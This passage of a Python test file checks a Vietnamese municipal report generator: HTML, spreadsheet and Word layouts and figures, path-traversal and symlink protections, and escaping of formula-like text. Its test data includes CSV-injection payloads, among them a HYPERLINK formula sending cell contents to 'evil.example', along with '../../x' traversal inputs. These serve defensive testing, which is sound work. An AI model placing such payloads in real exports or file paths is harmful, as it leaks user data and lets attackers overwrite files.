    assert "Vũng Tàu, ngày 20 tháng 01 năm 2026" in text


class _Tables(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tables, self._cell = [], None

    def handle_starttag(self, tag, attrs):
        if tag == "table":
            self.tables.append([])
        elif tag == "tr" and self.tables:
            self.tables[-1].append([])
        elif tag in ("td", "th"):
            self._cell = ""

    def handle_endtag(self, tag):
        if tag in ("td", "th") and self._cell is not None:
            self.tables[-1][-1].append(self._cell.strip())
            self._cell = None

    def handle_data(self, data):
        if self._cell is not None:
            self._cell += data


def test_html_numbers_and_self_contained(written):
    report, files, exp = written
    html = files["html"].read_text("utf-8")
    assert "<script" not in html and not re.search(r'(src|href)="(?!https://example\.test)', html)
    assert html.count("<svg") == 3
    parser = _Tables()
    parser.feed(html)
    channels = next(t for t in parser.tables if t and t[0][:2] == ["Kênh", "Số lượt"])
    got = {r[0]: r[1] for r in channels[1:]}
    assert got == {**{LABELS["channels"][c]: format_number_vi(n) for c, n in exp["by_channel"].items()},
                   "Tổng": format_number_vi(exp["items"])}
    units = next(t for t in parser.tables if t and t[0][0] == "Đơn vị" and t[0][-1] == "Ghi chú")
    assert units[-1][len(report.channels) + 1] == format_number_vi(exp["items"])


def test_xlsx_numbers(written):
    openpyxl = pytest.importorskip("openpyxl")
    report, files, exp = written
    wb = openpyxl.load_workbook(files["xlsx"])
    assert wb.sheetnames == ["Tổng hợp", "Theo kênh", "Theo loại", "Theo chủ đề", "Theo tháng", "Đơn vị",
                             "Chỉ tiêu", "Hoạt động", "Danh sách"]
    rows = list(wb["Theo kênh"].iter_rows(values_only=True))
    assert {r[0]: r[1] for r in rows[1:]} == {**{LABELS["channels"][c]: n for c, n in exp["by_channel"].items()},
                                              "Tổng": exp["items"]}
    units = list(wb["Đơn vị"].iter_rows(values_only=True))
    heads = units[0]
    names = {u["id"]: u["name"] for u in UNITS}
    for (uid, ch), n in exp["unit_channel"].items():
        row = next(r for r in units if r[0] == names[uid])
        assert row[heads.index(LABELS["channels"][ch])] == n
    assert len(list(wb["Danh sách"].iter_rows())) - 1 == exp["items"]
    targets = list(wb["Chỉ tiêu"].iter_rows(values_only=True))[1:]
    for name, channel, target, done, share in targets:
        assert share == pytest.approx(done / target, abs=1e-4)


def test_docx_layout_and_numbers(written):
    docx = pytest.importorskip("docx")
    from docx.shared import Pt
    report, files, exp = written
    doc = docx.Document(str(files["docx"]))
    s = doc.sections[0]
    mm = lambda length: round(length.mm, 1)  # noqa: E731  (stored in twentieths of a point)
    assert (mm(s.page_width), mm(s.page_height)) == (210, 297)
    assert tuple(map(mm, (s.top_margin, s.bottom_margin, s.left_margin, s.right_margin))) == (20, 20, 30, 15)
    assert s.different_first_page_header_footer and "PAGE" in s.header._element.xml
    normal = doc.styles["Normal"]
    assert normal.font.name == "Times New Roman" and normal.font.size == Pt(14)
    fonts = normal.element.rPr.rFonts
    assert fonts.get("{http://schemas.openxmlformats.org/wordprocessingml/2006/main}eastAsia") == "Times New Roman"
    for p in doc.paragraphs:
        for r in p.runs:
            if r.text.strip():
                assert r.font.name == "Times New Roman" and 11 <= r.font.size.pt <= 14

    header = doc.tables[0]
    left, right = header.cell(0, 0), header.cell(0, 1)
    assert [p.text for p in left.paragraphs if p.text] == ["ỦY BAN NHÂN DÂN", "THÀNH PHỐ VŨNG TÀU"]
    assert all(r.font.bold for p in left.paragraphs for r in p.runs if r.text)
    nation, motto = [p for p in right.paragraphs if p.text]
    assert nation.text == "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" and nation.runs[0].font.size == Pt(13)
    assert motto.text == "Độc lập - Tự do - Hạnh phúc" and motto.runs[0].font.size == Pt(14)
    assert nation.runs[0].font.bold and motto.runs[0].font.bold
    assert "w:pBdr" in left._element.xml and "w:pBdr" in right._element.xml  # the rules
    assert "w:tblBorders" in header._element.xml
    assert header.cell(1, 0).text == "Số:      /BC-UBND"
    date_line = header.cell(1, 1).paragraphs[0]
    assert date_line.text == "Vũng Tàu, ngày 20 tháng 01 năm 2026" and date_line.runs[0].font.italic

    texts = [p.text for p in doc.paragraphs]
    i = texts.index("BÁO CÁO")
    assert texts[i + 1] == "Kết quả công tác thông tin, tuyên truyền cải cách hành chính quý I năm 2024"
    assert doc.paragraphs[i].runs[0].font.bold and doc.paragraphs[i].alignment == 1  # centred
    assert "I. KẾT QUẢ ĐĂNG TIN, BÀI" in texts and "II. KẾT QUẢ THEO ĐƠN VỊ" in texts

    sign = doc.tables[-1]
    recipients = [p for p in sign.cell(0, 0).paragraphs if p.text]
    assert recipients[0].text == "Nơi nhận:" and recipients[0].runs[0].font.bold and recipients[0].runs[0].font.italic
    assert recipients[0].runs[0].font.size == Pt(12)
    assert [p.text for p in recipients[1:]] == ["- Sở Nội vụ tỉnh Bà Rịa - Vũng Tàu;", "- Lưu: VT, NV."]
    assert all(p.runs[0].font.size == Pt(11) for p in recipients[1:])
    assert [p.text for p in sign.cell(0, 1).paragraphs if p.text] == ["TM. ỦY BAN NHÂN DÂN", "KT. CHỦ TỊCH",
                                                                      "PHÓ CHỦ TỊCH", "Nguyễn Văn A"]

    def table_with(first):
        return next(t for t in doc.tables if t.rows[0].cells[0].text == first)
    channels = table_with("Kênh")
    got = {r.cells[0].text: r.cells[1].text for r in channels.rows[1:]}
    assert got == {**{LABELS["channels"][c]: format_number_vi(n) for c, n in exp["by_channel"].items()},
                   "Tổng": format_number_vi(exp["items"])}
    units = table_with("Đơn vị")
    heads = [c.text for c in units.rows[0].cells]
    names = {u["id"]: u["name"] for u in UNITS}
    for (uid, ch), n in exp["unit_channel"].items():
        row = next(r for r in units.rows if r.cells[0].text == names[uid])
        assert row.cells[heads.index(LABELS["channels"][ch])].text == format_number_vi(n)
    items = table_with("Ngày")
    assert len(items.rows) - 1 == 5  # capped preview, and the text says so
    assert any(t.startswith("Danh sách trên gồm 5 trên tổng số") for t in texts)


# --- files: the report folder holds the reports and nothing leaves it; text is never a formula ---------

def test_report_path_keeps_keys_and_units_inside_the_folder(tmp_path):
    from pipeline.report import report_path

    out = tmp_path / "reports"
    out.mkdir()
    assert report_path(out, "2024-q1", "docx") == out.resolve() / "2024-Q1.docx"
    assert report_path(out, "2024-Q1", "csv", unit="phuong-1") == out.resolve() / "2024-Q1-phuong-1.csv"
    with pytest.raises(UsageError, match="unit '../../x' cannot name a report file"):
        report_path(out, "2024-Q1", "md", unit="../../x")
    with pytest.raises(UsageError, match="unknown period"):
        report_path(out, "2024-Q1/../../../x", "md")
    (tmp_path / "elsewhere.md").write_text("keep me")
    (out / "2024-Q2.md").symlink_to(tmp_path / "elsewhere.md")
    with pytest.raises(UsageError, match="leads outside"):
        report_path(out, "2024-Q2", "md")


def test_a_planted_temporary_link_is_not_written_through(factory, tmp_path):
    report = report_for(factory.new(), "2024-Q1")
    (tmp_path / "elsewhere.md").write_text("keep me")
    (tmp_path / "2024-Q1.md.part").symlink_to(tmp_path / "elsewhere.md")  # the name the writer used to use
    write_report(report, "md", tmp_path / "2024-Q1.md")
    assert (tmp_path / "elsewhere.md").read_text() == "keep me"
    assert "BÁO CÁO" in (tmp_path / "2024-Q1.md").read_text("utf-8")
    assert not list(tmp_path.glob(".2024-Q1.md.*.part"))


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1",
            "\r=1+1"]


def test_formula_like_text_is_text_in_csv_and_xlsx(factory, tmp_path):
    from pipeline.report.text import csv_safe, formula_like
    from pipeline.vietnamese import strip_control

    assert [formula_like(f) for f in FORMULAS] == [True] * 6
    assert not formula_like("Tin =1") and not formula_like(-3) and not formula_like("")
    assert csv_safe(["=1+1", 5, "a"]) == ["'=1+1", 5, "a"]

    @dataclass
    class Titled(Spec):
        text: str = ""

        @property
        def title(self) -> str:
            return self.text

    led = factory.new()
    fill(led, [Titled(f"f{i}", "phuong-1", "news", [], {"portal": local(2024, 2, 1 + i)}, text=t)
               for i, t in enumerate(FORMULAS)])
    report = report_for(led, "2024-Q1")
    write_report(report, "csv", tmp_path / "r.csv")
    with (tmp_path / "r.csv").open(encoding="utf-8-sig", newline="") as f:
        titles = {r["key"]: r["title"] for r in csv.DictReader(f) if r["section"] == "item"}
    # (a control character such as the CR is dropped from every report: what remains is still text)
    assert titles == {f"f{i}": "'" + strip_control(t) for i, t in enumerate(FORMULAS)}

    openpyxl = pytest.importorskip("openpyxl")
    write_report(report, "xlsx", tmp_path / "r.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "r.xlsx")["Danh sách"]
    cells = {row[1].value: row[3] for row in ws.iter_rows(min_row=2)}
    for i, t in enumerate(FORMULAS):
        cell = cells[f"f{i}"]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (strip_control(t), "s", True)


def test_loa_log_csv_writes_a_formula_title_as_text(tmp_path, monkeypatch, capsys):
    from pipeline.cli import main
    from tests.repo import make_repo, post

    title = '=HYPERLINK("http://evil.example","Thông báo")'
    root = make_repo(tmp_path, {"news/a.md": post(id="a", title=title, slug="thong-bao", channels=["portal"])})
    cfg_text = (root / "config.toml").read_text().replace('require_approval = ["portal"]', "require_approval = []")
    (root / "config.toml").write_text(cfg_text)
    monkeypatch.chdir(root)
    assert main(["publish", "--now", "2024-03-25 09:00"]) == 0
    capsys.readouterr()
    assert main(["--lang", "en", "log", "--format", "csv"]) == 0  # the English headers; Vietnamese by default
    rows = list(csv.reader(capsys.readouterr().out.splitlines()))
    assert rows[0] == ["published", "channel", "state", "unit", "type", "post_id", "title", "url"]
    assert rows[1][6] == "'" + title
